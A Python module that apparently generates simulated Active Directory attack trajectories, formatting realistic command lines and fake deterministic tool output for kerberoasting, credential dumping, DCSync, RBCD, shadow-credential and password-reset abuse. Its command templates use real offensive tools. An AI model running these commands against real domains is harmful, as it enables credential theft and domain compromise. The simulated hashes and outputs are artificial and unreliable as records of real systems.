"""Rendering: command lines and tool-shaped output, with the world's real values.

Hashes, passwords and tickets are fake but deterministic: derived with sha256 from
(world seed, purpose, principal id), so the same principal shows the same NT hash
in every step and every trajectory of a world.

`kali` steps look like the output of impacket, NetExec (nxc), bloodhound-python,
bloodyAD, certipy and hashcat; `c2` steps like beacon tasking with Rubeus, Mimikatz
and SharpHound output. Long listings are cut after `MAX_LINES` entries, as an
operator's `| head` would, so a step's cost stays bounded.
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

from worlds.generator import rng as rnglib
from worlds.sampler.actions import Action, Outcome
from worlds.sampler.catalog import BY_NAME, SPRAY_PASSWORDS, Command
from worlds.sampler.index import WorldIndex
from worlds.sampler.state import AttackerState

MAX_LINES = 25
LM_EMPTY = "aad3b435b51404eeaad3b435b51404ee"
_WORDS = ("Summer", "Winter", "Autumn", "Spring", "Welcome", "Company", "Monkey", "Dragon",
          "Sunshine", "Football", "Princess", "Master")


def nt_hash(ix: WorldIndex, pid: str) -> str:
    return rnglib.digest(ix.seed, "nt", pid).hex()[:32]


def password(ix: WorldIndex, pid: str) -> str:
    raw = rnglib.digest(ix.seed, "password", pid)
    return f"{_WORDS[raw[0] % len(_WORDS)]}{2015 + raw[1] % 12}{'!#$@'[raw[2] % 4]}"


def new_password(ix: WorldIndex, pid: str) -> str:
    return f"Wr!d-{rnglib.digest(ix.seed, 'reset', pid).hex()[:10]}"


def _blob(ix: WorldIndex, *names: str, size: int = 48) -> str:
    out, n = "", 0
    while len(out) < size:
        out += rnglib.digest(ix.seed, *names, n).hex()
        n += 1
    return out[:size]


def _dc(ix: WorldIndex, dom: str | None) -> Mapping[str, Any]:
    dcs = ix.domain_dcs.get(dom or "", [])
    return ix.hosts[dcs[0]] if dcs else {"ip": "0.0.0.0", "fqdn": "dc", "hostname": "DC"}


def fields(ix: WorldIndex, st: AttackerState | None, action: Action,
           out: Outcome | None) -> dict[str, Any]:
    """The placeholder values of an action's command patterns."""
    name, key = action
    edge = ix.edge_by_id.get(key)
    target = edge["target"] if edge is not None else key
    if name == "loot_artifact" and key in ix.artifacts:
        target = ix.artifacts[key][0]
    if name == "password_spray":
        target = key.partition("#")[0]
    dom = ix.domain_of(target) or (ix.domain_of(edge["source"]) if edge else None)
    if dom is None and ix.domains:
        dom = ix.domains[0]
    actor = out.actor if out is not None and out.actor else None
    if name == "trust_abuse" and edge is not None:
        actor = ix.domain_administrator.get(edge["source"], actor)
    local = bool(out is not None and out.facts.get("local_admin"))
    actor = actor or (next(iter(st.owned)) if st is not None and st.owned else target)
    kind = st.owned.get(actor, "ntlm") if st is not None else "password"
    pw, nt = password(ix, actor), nt_hash(ix, actor)
    if kind == "password":
        auth, nxc_auth, rdp_auth = f"-p '{pw}'", f"-p '{pw}'", f"/p:'{pw}'"
    else:
        auth, nxc_auth, rdp_auth = f"-hashes {LM_EMPTY}:{nt}", f"-H {nt}", f"/pth:{nt}"
    winrm_auth = nxc_auth
    if local:
        # Admin through the host's own Administrator: a local hash or ticket.
        secret = str(ix.props(target).get("local_admin_password_id") or target)
        local_nt = _local_nt(ix, secret)
        auth, nxc_auth = f"-hashes {LM_EMPTY}:{local_nt}", f"-H {local_nt} --local-auth"
    host = ix.hosts.get(target, {})
    dc = _dc(ix, dom)
    domain_name = ix.domain_name.get(dom or "", "corp.local")
    f: dict[str, Any] = {
        "domain": domain_name,
        "netbios": str(ix.props(dom).get("netbios", domain_name.split(".")[0].upper()))
        if dom else "CORP",
        "dc_ip": dc["ip"], "dc_fqdn": dc["fqdn"],
        "nxc_auth": nxc_auth,
        "actor": "Administrator" if local else ix.name(actor), "actor_nt": nt, "auth": auth,
        "rdp_auth": rdp_auth, "winrm_auth": winrm_auth,
        "target": ix.name(target) if target in ix.nodes or target in ix.hosts else target,
        "member": ix.name(actor),
        "ip": host.get("ip", dc["ip"]), "fqdn": host.get("fqdn", dc["fqdn"]),
        "subnet": key, "hash_mode": "18200", "new_password": "",
        "password": "", "path": "", "local_nt": "", "ca": f"{domain_name.split('.')[0].upper()}-CA",
        "template": "User", "krbtgt_nt": "", "source_sid": "", "source_domain": "",
        "target_sid": "",
    }
    if name in ("force_change_password", "generic_all", "write_dacl", "write_owner", "owns"):
        f["new_password"] = new_password(ix, target)
    if name == "crack_hash" and st is not None:
        f["hash_mode"] = "18200" if st.roasted.get(key) == "asrep" else "13100"
    if name == "password_spray":
        f["password"] = SPRAY_PASSWORDS[int(key.partition("#")[2])]
    if name == "loot_artifact" and key in ix.artifacts:
        f["path"] = ix.artifacts[key][1].get("path", "")
    if name == "pass_the_hash_local_admin":
        f["local_nt"] = _local_nt(ix, str(ix.props(key).get("local_admin_password_id")))
    if name in ("adcs_enroll",) and edge is not None:
        f["template"] = ix.name(edge["target"])
    if name == "trust_abuse" and edge is not None:
        src = edge["source"]
        f.update(source_domain=ix.domain_name.get(src, ""),
                 source_sid=ix.props(src).get("sid", ""),
                 target_sid=ix.props(edge["target"]).get("sid", ""),
                 krbtgt_nt=nt_hash(ix, ix.domain_krbtgt.get(src) or src))
    if name in ("generic_all", "generic_write", "write_dacl", "write_owner", "owns"):
        abuse = (out.facts.get("abuse") if out is not None else None) or _abuse(ix, target, name)
        f["abuse_kali"], f["abuse_c2"] = _ABUSE[abuse]
        f["abuse_kali"] = f["abuse_kali"].format(**f)
        f["abuse_c2"] = f["abuse_c2"].format(**f)
    return f


def _local_nt(ix: WorldIndex, secret: str) -> str:
    return rnglib.digest(ix.seed, "local-admin", secret).hex()[:32]


def _abuse(ix: WorldIndex, target: str, name: str) -> str:
    if target in ix.hosts:
        return "rbcd"
    if target in ix.nodes and ix.node_type(target) == "group":
        return "add_member"
    return "shadow_credentials" if name == "generic_write" else "reset_password"


_ABUSE: dict[str, tuple[str, str]] = {
    "reset_password": (
        "bloodyAD --host {dc_ip} -d {domain} -u {actor} {auth} set password {target} '{new_password}'",
        "powershell Set-DomainUserPassword -Identity {target} -AccountPassword "
        "(ConvertTo-SecureString '{new_password}' -AsPlainText -Force)"),
    "add_member": (
        "bloodyAD --host {dc_ip} -d {domain} -u {actor} {auth} add groupMember '{target}' {member}",
        "powershell Add-DomainGroupMember -Identity '{target}' -Members {member}"),
    "shadow_credentials": (
        "certipy shadow auto -u {actor}@{domain} {auth} -account {target} -dc-ip {dc_ip}",
        "execute-assembly Whisker.exe add /target:{target} /domain:{domain}"),
    "rbcd": (
        "impacket-rbcd -delegate-from {actor} -delegate-to '{target}$' -action write "
        "{domain}/{actor} {auth} && impacket-getST -spn cifs/{fqdn} -impersonate Administrator "
        "{domain}/{actor} {auth}",
        "execute-assembly Rubeus.exe s4u /user:{actor} /rc4:{actor_nt} "
        "/impersonateuser:Administrator /msdsspn:cifs/{fqdn} /ptt"),
}


def command_line(ix: WorldIndex, st: AttackerState | None, action: Action, out: Outcome | None,
                 mode: str) -> str:
    command = BY_NAME[action[0]]
    pattern = command.c2 if mode == "c2" else command.kali
    return pattern.format(**fields(ix, st, action, out))


def example_edges(ix: WorldIndex) -> dict[str, str]:
    """Command name -> the id of the first world edge it follows (one pass over the edges)."""
    from worlds.sampler.actions import edge_command

    found: dict[str, str] = {}
    for edge in ix.edges:
        name = edge_command(ix, edge)
        if name is not None and name not in found:
            found[name] = edge["id"]
    return found


def examples_for(ix: WorldIndex, command: Command,
                 edges: dict[str, str] | None = None) -> list[str]:
    """A `kali` and a `c2` example of `command` against this world, when it has a target."""
    action = _example_action(ix, command, example_edges(ix) if edges is None else edges)
    if action is None:
        return []
    return [command_line(ix, None, action, None, mode) for mode in ("kali", "c2")]


def _example_action(ix: WorldIndex, command: Command, edges: dict[str, str]) -> Action | None:
    name = command.name
    if command.target == "edge" or name == "dcsync":
        return (name, edges[name]) if name in edges else None
    dom = ix.domains[0] if ix.domains else None
    hosts = sorted(h for h in ix.hosts if ix.hosts[h].get("os_family") == "windows")
    if name == "network_scan":
        return (name, next(iter(ix.subnet_hosts), "")) if ix.subnet_hosts else None
    if name == "bloodhound_collect":
        return (name, dom) if dom else None
    if name in ("enum_sessions", "enum_shares", "lsass_dump", "sam_dump",
                "pass_the_hash_local_admin"):
        shared = [h for group in ix.local_admin_shared.values() for h in group]
        pool = shared if name == "pass_the_hash_local_admin" else hosts
        return (name, pool[0]) if pool else None
    if name in ("asrep_roast", "kerberoast", "crack_hash"):
        table = ix.asrep_roastable if name == "asrep_roast" else ix.kerberoastable
        users = [u for d in ix.domains for u in table.get(d, ())]
        return (name, users[0]) if users else None
    if name == "password_spray":
        return (name, f"{dom}#0") if dom else None
    if name == "loot_artifact":
        for artifact_id, (_, artifact) in ix.artifacts.items():
            if artifact.get("kind") in ("file", "registry"):
                return (name, artifact_id)
    return None


# --- output -------------------------------------------------------------------------------


def render(ix: WorldIndex, st: AttackerState, action: Action, out: Outcome,
           mode: str) -> tuple[str, str, str]:
    """(command line, stdout, stderr) of an executed action, in `mode`."""
    f = fields(ix, st, action, out)
    command = BY_NAME[action[0]]
    line = (command.c2 if mode == "c2" else command.kali).format(**f)
    stdout, stderr = output(ix, st, action, out, mode, f, line)
    return line, stdout, stderr


def output(ix: WorldIndex, st: AttackerState, action: Action, out: Outcome,
           mode: str, f: dict[str, Any] | None = None, line: str = "") -> tuple[str, str]:
    """(stdout, stderr) of an executed action."""
    f = fields(ix, st, action, out) if f is None else f
    body = _BODIES.get(action[0], _generic)(ix, st, action, out, f, mode)
    if mode == "c2" and action[0] != "crack_hash":  # cracking runs on the operator's box
        host = out.facts.get("beacon") or next(iter(st.shell_hosts), None) or next(
            iter(st.admin_hosts), None)
        beacon = ix.name(host) if host else "beacon"
        head = (f"[*] Tasked beacon on {beacon} to run: {line or action[0]}\n"
                f"[+] host called home, sent: {1024 + len(line) * 8} bytes\n"
                "[+] received output:\n")
        body = head + body
    stderr = "" if not out.failed else f"[-] {out.failure_reason}\n"
    return body, stderr


def _cut(lines: list[str], total: int | None = None) -> list[str]:
    """The first MAX_LINES of `total` lines (default: all of `lines`), with a marker."""
    total = len(lines) if total is None else total
    if total <= MAX_LINES:
        return lines
    return [*lines[:MAX_LINES], f"[*] ... {total - MAX_LINES} more lines"]


def _smb_line(ix: WorldIndex, host_id: str) -> str:
    h = ix.hosts[host_id]
    name = h["hostname"]
    if h.get("os_family") != "windows":
        return f"SSH         {h['ip']:<15} 22     {name:<15} [*] {h.get('os_version', 'Linux')}"
    return (f"SMB         {h['ip']:<15} 445    {name:<15} [*] {h.get('os_version')} "
            f"(name:{name}) (domain:{h.get('domain')}) (signing:"
            f"{'True' if h.get('role') == 'domain_controller' else 'False'}) (SMBv1:False)")


def _scan(ix: WorldIndex, st: AttackerState, action: Action, out: Outcome, f: dict[str, Any],
          mode: str) -> str:
    hosts = out.facts.get("hosts", [])
    if mode == "c2":
        lines = [f"{ix.hosts[h]['ip']}:445 ({ix.hosts[h]['hostname']})"
                 for h in hosts[:MAX_LINES + 1]]
        return "\n".join([*_cut(lines, len(hosts)),
                          f"Scanner module is complete ({len(hosts)} hosts)"]) + "\n"
    return "\n".join(_cut([_smb_line(ix, h) for h in hosts[:MAX_LINES + 1]], len(hosts))) + "\n"


def _collect(ix: WorldIndex, st: AttackerState, action: Action, out: Outcome, f: dict[str, Any],
             mode: str) -> str:
    dom = action[1]
    users = ix.domain_user_count.get(dom, 0)
    groups = ix.domain_group_count.get(dom, 0)
    computers = ix.domain_principal_count.get(dom, 0) - users - groups
    lines = [
        f"INFO: Found AD domain: {f['domain']}",
        f"INFO: Connecting to LDAP server: {f['dc_fqdn']}",
        "INFO: Found 1 domains in the forest" if len(ix.domains) == 1
        else f"INFO: Found {len(ix.domains)} domains in the forest",
        f"INFO: Found {computers} computers",
        f"INFO: Found {users} users",
        f"INFO: Found {groups} groups",
        f"INFO: Found {ix.domain_edge_count.get(dom, 0)} ACEs and memberships",
        f"INFO: Compressing output into {f['netbios']}_bloodhound.zip",
    ]
    return "\n".join(lines) + "\n"


def _sessions(ix: WorldIndex, st: AttackerState, action: Action, out: Outcome,
              f: dict[str, Any], mode: str) -> str:
    head = _smb_line(ix, action[1])
    h = ix.hosts[action[1]]
    lines = [f"SMB         {h['ip']:<15} 445    {h['hostname']:<15} {f['netbios']}\\{ix.name(u)} "
             "logon session" for u in out.facts.get("users", [])]
    if out.failed:
        lines = [f"SMB         {h['ip']:<15} 445    {h['hostname']:<15} [-] Error enumerating "
                 "sessions: rpc_s_access_denied"]
    elif not lines:
        lines = [f"SMB         {h['ip']:<15} 445    {h['hostname']:<15} [*] no sessions enumerated"]
    return "\n".join([head, *_cut(lines)]) + "\n"


def _shares(ix: WorldIndex, st: AttackerState, action: Action, out: Outcome, f: dict[str, Any],
            mode: str) -> str:
    h = ix.hosts[action[1]]
    pre = f"SMB         {h['ip']:<15} 445    {h['hostname']:<15}"
    lines = [_smb_line(ix, action[1]), f"{pre} Share           Permissions     Remark",
             f"{pre} -----           -----------     ------",
             f"{pre} ADMIN$                          Remote Admin",
             f"{pre} C$                              Default share",
             f"{pre} IPC$            READ            Remote IPC"]
    for artifact in out.facts.get("files", []):
        lines.append(f"SPIDER_PLUS {h['ip']:<15} 445    {h['hostname']:<15} [+] Found "
                     f"{artifact.get('path')} ({artifact.get('description')})")
    return "\n".join(lines) + "\n"


def _roast(ix: WorldIndex, st: AttackerState, action: Action, out: Outcome, f: dict[str, Any],
           mode: str) -> str:
    user = out.edge["target"] if out.edge is not None else action[1]
    sam, dom = ix.name(user), f["domain"]
    body = _blob(ix, "roast", user, size=96)
    if action[0] == "asrep_roast":
        hashline = f"$krb5asrep$23${sam}@{dom.upper()}:{body[:32]}${body[32:]}"
    else:
        spns = ix.props(user).get("spns") or [f"http/{sam}"]
        hashline = f"$krb5tgs$23$*{sam}${dom.upper()}${spns[0]}*${body[:32]}${body[32:]}"
    if mode == "c2":
        return f"[*] Action: Roast\n[*] Target User : {sam}\n[*] Hash        : {hashline}\n"
    return f"Impacket v0.12.0 - Copyright Fortra, LLC and its affiliated companies\n\n{hashline}\n"


def _crack(ix: WorldIndex, st: AttackerState, action: Action, out: Outcome, f: dict[str, Any],
           mode: str) -> str:
    user = action[1]
    status = "Exhausted" if out.failed else "Cracked"
    lines = ["Session..........: hashcat", f"Status...........: {status}",
             f"Hash.Mode........: {f['hash_mode']}", f"Hash.Target......: {ix.name(user)}.hash",
             "Recovered........: " + ("0/1 (0.00%) Digests" if out.failed else "1/1 (100.00%) Digests")]
    if not out.failed:
        kind = "asrep" if f["hash_mode"] == "18200" else "tgs"
        lines.insert(0, f"$krb5{kind}$23$*{ix.name(user)}${f['domain'].upper()}*$"
                        f"{_blob(ix, 'roast', user, size=16)}...:{password(ix, user)}")
    return "\n".join(lines) + "\n"


def _spray(ix: WorldIndex, st: AttackerState, action: Action, out: Outcome, f: dict[str, Any],
           mode: str) -> str:
    pre = f"SMB         {f['dc_ip']:<15} 445    {_dc(ix, out.facts.get('domain'))['hostname']:<15}"
    lines = [f"{pre} [+] {f['domain']}\\{ix.name(u)}:{f['password']}"
             for u in out.facts.get("hits", [])]
    if not lines:
        lines = [f"{pre} [-] {f['domain']}\\* :{f['password']} STATUS_LOGON_FAILURE"]
    return "\n".join(lines) + "\n"


def _secrets_line(ix: WorldIndex, pid: str) -> str:
    rid = str(ix.principals.get(pid, {}).get("sid", "-0")).rsplit("-", 1)[-1]
    return f"{ix.name(pid)}:{rid}:{LM_EMPTY}:{nt_hash(ix, pid)}:::"


def _lsass(ix: WorldIndex, st: AttackerState, action: Action, out: Outcome, f: dict[str, Any],
           mode: str) -> str:
    users = out.facts.get("users", [])
    if mode == "c2":
        lines = []
        for u in users:
            lines += ["Authentication Id : 0 ; 996", f"User Name         : {ix.name(u)}",
                      f"Domain            : {f['netbios']}", "\tmsv :",
                      f"\t [00000003] Primary\n\t * Username : {ix.name(u)}\n\t * NTLM     : "
                      f"{nt_hash(ix, u)}"]
        return "\n".join(lines or ["ERROR kuhl_m_sekurlsa_acquireLSA ; no logon session"]) + "\n"
    h = ix.hosts[action[1]]
    pre = f"LSASSY      {h['ip']:<15} 445    {h['hostname']:<15}"
    lines = [f"{pre} {f['netbios']}\\{ix.name(u)} {nt_hash(ix, u)}" for u in users]
    return "\n".join(_cut(lines) or [f"{pre} [-] No credentials found"]) + "\n"


def _sam(ix: WorldIndex, st: AttackerState, action: Action, out: Outcome, f: dict[str, Any],
         mode: str) -> str:
    host = action[1]
    secret = str(ix.props(host).get("local_admin_password_id") or host)
    lines = ["[*] Dumping local SAM hashes (uid:rid:lmhash:nthash)",
             f"Administrator:500:{LM_EMPTY}:{_local_nt(ix, secret)}:::",
             f"Guest:501:{LM_EMPTY}:31d6cfe0d16ae931b73c59d7e0c089c0:::",
             "[*] Dumping LSA Secrets", "[*] $MACHINE.ACC",
             f"{f['netbios']}\\{ix.name(host)}$:aad3b435b51404eeaad3b435b51404ee:"
             f"{nt_hash(ix, host)}:::"]
    return "\n".join(lines) + "\n"


def _loot(ix: WorldIndex, st: AttackerState, action: Action, out: Outcome, f: dict[str, Any],
          mode: str) -> str:
    artifact = out.facts.get("artifact", {})
    owner = artifact.get("principal_id")
    secret = password(ix, owner) if owner else _blob(ix, "artifact", action[1], size=16)
    path = str(artifact.get("path", ""))
    if path.lower().endswith("unattend.xml"):
        content = f"<AdministratorPassword><Value>{secret}</Value><PlainText>true</PlainText>"
    elif "winlogon" in path.lower():
        content = (f"DefaultUserName    REG_SZ    {ix.name(owner) if owner else ''}\n"
                   f"DefaultPassword    REG_SZ    {secret}")
    elif path.endswith("web.config"):
        content = (f'<add name="AppDb" connectionString="Server=sql;User Id={f["netbios"]}\\'
                   f'{ix.name(owner) if owner else "sa"};Password={secret};" />')
    else:
        content = f"{ix.name(owner) if owner else 'admin'} : {secret}"
    return f"[*] Downloading {path}\n{content}\n"


def _dcsync(ix: WorldIndex, st: AttackerState, action: Action, out: Outcome, f: dict[str, Any],
            mode: str) -> str:
    dom = out.facts.get("domain", action[1])
    picks = [p for p in (ix.domain_administrator.get(dom), ix.domain_krbtgt.get(dom)) if p]
    if mode == "c2":
        p = ix.domain_krbtgt.get(dom)
        return (f"[DC] '{f['domain']}' will be the domain\n[DC] '{f['dc_fqdn']}' will be the DC server\n"
                f"Object RDN           : krbtgt\nHash NTLM: {nt_hash(ix, p) if p else ''}\n")
    lines = ["[*] Dumping Domain Credentials (domain\\uid:rid:lmhash:nthash)",
             "[*] Using the DRSUAPI method to get NTDS.DIT secrets",
             *(f"{f['netbios']}\\{_secrets_line(ix, p)}" for p in picks), "[*] Cleaning up..."]
    return "\n".join(lines) + "\n"


def _edge_out(ix: WorldIndex, st: AttackerState, action: Action, out: Outcome, f: dict[str, Any],
              mode: str) -> str:
    name = action[0]
    tgt = f["target"]
    if name in ("admin_to", "allowed_to_delegate", "rbcd"):
        return (f"[*] Requesting shares on {f['ip']}.....\n[*] Found writable share ADMIN$\n"
                f"[*] Uploading file {_blob(ix, 'svc', action[1], size=8)}.exe\n"
                f"[*] Creating service on {f['ip']}.....\nMicrosoft Windows [Version 10.0]\n"
                "C:\\Windows\\system32> whoami\nnt authority\\system\n")
    if name in ("can_rdp", "can_psremote", "sql_admin"):
        return (f"[*] Connected to {f['fqdn']}\nPS C:\\Users\\{f['actor']}> whoami\n"
                f"{f['netbios'].lower()}\\{f['actor']}\n")
    if name == "add_member" or out.facts.get("abuse") == "add_member":
        return f"[+] {f['member']} added to {tgt}\n"
    if name == "force_change_password" or out.facts.get("abuse") == "reset_password":
        return "[+] Password changed successfully!\n"
    if name in ("shadow_credentials", "read_gmsa_password") or out.facts.get("abuse") == \
            "shadow_credentials":
        return (f"[*] Targeting user '{tgt}'\n[*] Adding Key Credential with device ID "
                f"'{_blob(ix, 'kcl', action[1], size=8)}'\n[*] Got hash for "
                f"'{tgt}@{f['domain']}': {LM_EMPTY}:"
                f"{nt_hash(ix, out.edge['target'] if out.edge else tgt)}\n")
    if name == "rbcd" or out.facts.get("abuse") == "rbcd":
        return "[*] Impersonating Administrator\n[*] Saving ticket in Administrator.ccache\n"
    if name in ("adcs_esc1", "adcs_esc3", "adcs_esc4", "adcs_enroll"):
        return ("[*] Requesting certificate via RPC\n[*] Successfully requested certificate\n"
                "[*] Saved certificate and private key to 'administrator.pfx'\n")
    if name == "trust_abuse":
        return ("[*] Creating basic skeleton ticket and PAC Infos\n"
                "[*] Saving ticket in Administrator.ccache\n")
    if name == "sid_history":
        return f"[*] Saving ticket in {f['actor']}.ccache\n"
    if name == "read_laps_password":
        secret = _blob(ix, "laps", action[1], size=14)
        return f"LAPS        {f['dc_ip']:<15} 389    {tgt:<15} Administrator:{secret}\n"
    return "[*] Done\n"


def _generic(ix: WorldIndex, st: AttackerState, action: Action, out: Outcome, f: dict[str, Any],
             mode: str) -> str:
    return _edge_out(ix, st, action, out, f, mode)


_BODIES: dict[str, Any] = {
    "network_scan": _scan, "bloodhound_collect": _collect, "enum_sessions": _sessions,
    "enum_shares": _shares, "asrep_roast": _roast, "kerberoast": _roast,
    "targeted_kerberoast": _roast, "crack_hash": _crack, "password_spray": _spray,
    "lsass_dump": _lsass, "sam_dump": _sam, "loot_artifact": _loot, "dcsync": _dcsync,
}
